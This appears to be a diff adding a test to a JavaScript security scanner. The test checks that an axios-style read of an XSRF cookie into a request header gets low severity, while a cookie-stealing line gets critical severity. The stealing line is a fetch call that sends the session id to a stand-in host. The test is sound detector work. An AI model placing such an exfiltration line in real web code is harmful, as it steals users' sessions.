@@ -235,3 +235,22 @@ def test_capability_evidence_without_data_flow_is_low() -> None:
     """
     found = [f for f in _findings(source) if f.severity > Severity.INFO]
     assert found and all(f.severity is Severity.LOW for f in found)
+
+
+def test_an_xsrf_token_for_a_request_header_is_not_theft() -> None:
+    """rxjs/axios: one named cookie into a header of the library's own request."""
+    source = """
+    function send(cfg) {
+      var headers = {}, token = null;
+      if (cfg.xsrfCookieName) {
+        token = document.cookie.match(new RegExp('(^|;\\\\s*)(' + cfg.xsrfCookieName + ')=([^;]*)'));
+      }
+      if (token) headers[cfg.xsrfHeaderName] = token.pop();
+      var xhr = new XMLHttpRequest();
+      xhr.open(cfg.method, cfg.url);
+      xhr.send(cfg.body);
+    }
+    """
+    assert [f.severity for f in _rule(_findings(source), "js-cookie-access")] == [Severity.LOW]
+    stolen = "fetch('https://c.example/?s=' + document.cookie.match(/sid=([^;]+)/)[1]);"
+    assert [f.severity for f in _rule(_findings(stolen), "js-cookie-access")] == [Severity.CRITICAL]
